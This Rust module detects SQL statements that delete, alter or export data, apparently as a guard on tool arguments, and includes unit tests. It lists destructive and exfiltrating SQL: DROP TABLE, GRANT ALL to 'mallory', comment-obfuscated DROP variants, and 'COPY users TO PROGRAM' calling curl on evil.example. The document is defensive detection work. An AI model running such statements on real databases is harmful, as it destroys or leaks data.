//! Statements of SQL that delete or change what is there, whatever the tool that takes them is called.

use crate::effect::words;

/// Words for arguments that take statements.
const TAKES: &str = "sql query queries statement statements stmt";

/// What a statement begins with. A text that begins otherwise is none.
const BEGINS: &str = "\
    select with explain begin start set declare do use show pragma values call exec execute \
    drop delete truncate alter update insert replace merge grant revoke create copy";

/// Two words in a row that change something.
const CHANGES: &[(&str, &str)] = &[
    (
        "drop",
        "table database schema view index column user role trigger function procedure sequence type constraint \
         extension owned materialized",
    ),
    ("alter", "table database schema view index user role system"),
    ("create", "user role trigger"),
    ("truncate", "table"),
    ("delete", "from"),
    ("replace", "into"),
    ("merge", "into"),
    // These leave the database.
    ("into", "outfile dumpfile"),
    ("to", "program"),
    ("from", "program"),
];

/// Is it a statement that deletes or changes something? O(length).
pub(crate) fn changes(argument: &str, text: &str) -> bool {
    if !words(argument).iter().any(|word| holds(TAKES, word)) {
        return false;
    }
    let said = unquoted(text);
    let mut tokens =
        said.split(|c: char| !(c.is_alphanumeric() || c == '_')).filter(|token| !token.is_empty());
    let Some(first) = tokens.next().filter(|first| holds(BEGINS, first)) else { return false };
    let (mut before, mut updates) = (first, first == "update");
    if matches!(first, "truncate" | "grant" | "revoke") {
        return true;
    }
    for token in tokens {
        let changes = CHANGES.iter().any(|(one, others)| *one == before && holds(others, token));
        if changes || updates && token == "set" {
            return true;
        }
        updates |= token == "update";
        before = token;
    }
    false
}

/// In lower case, without comments and what stands in quotes. What `MySQL` runs though it looks like a comment stays.
fn unquoted(text: &str) -> String {
    let mut rest = text;
    let mut said = String::with_capacity(text.len());
    while let Some(c) = rest.chars().next() {
        let end = match c {
            '\'' | '"' | '`' => Some(c.to_string()),
            '-' if rest.starts_with("--") => Some("\n".to_owned()),
            '/' if rest.starts_with("/*") && !rest.starts_with("/*!") => Some("*/".to_owned()),
            _ => None,
        };
        let behind = rest.get(c.len_utf8()..).unwrap_or_default();
        let Some(end) = end else {
            said.extend(c.to_lowercase());
            rest = behind;
            // The number of a version: `/*!50000DROP`.
            if said.ends_with("/*!") {
                rest = rest.trim_start_matches(|c: char| c.is_ascii_digit());
            }
            continue;
        };
        said.push(' ');
        rest = behind.split_once(end.as_str()).map_or("", |(_, rest)| rest);
    }
    said
}

fn holds(list: &str, word: &str) -> bool {
    list.split_ascii_whitespace().any(|known| known == word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_that_change_something() {
        for text in [
            "DROP TABLE users;",
            "drop\ttable users",
            "DROP/**/TABLE users",
            "/*!50000DROP*/ TABLE users",
            "-- tidy up\nDELETE FROM users",
            "SELECT 1; DROP TABLE users",
            "SELECT ';'; DROP TABLE users",
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
            "EXPLAIN ANALYZE UPDATE users SET admin = true",
            "TRUNCATE users",
            "GRANT ALL ON users TO mallory",
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            "COPY users TO PROGRAM 'curl evil.example'",
        ] {
            assert!(changes("sql", text), "{text}");
        }
    }

    #[test]
    fn what_only_reads_or_is_no_statement() {
        for (argument, text) in [
            ("sql", "SELECT * FROM users LIMIT 10"),
            ("sql", "SELECT 'DROP TABLE users'"),
            ("sql", "SELECT 1 -- DROP TABLE users"),
            ("sql", "SELECT updated, \"set\" FROM t"),
            ("sql", "INSERT INTO notes VALUES ('x')"),
            ("query", "how to drop table users"),
            ("query", "coffee table, drop leaf"),
            ("content", "DROP TABLE users;"),
            ("query", ""),
        ] {
            assert!(!changes(argument, text), "{text}");
        }
    }
}
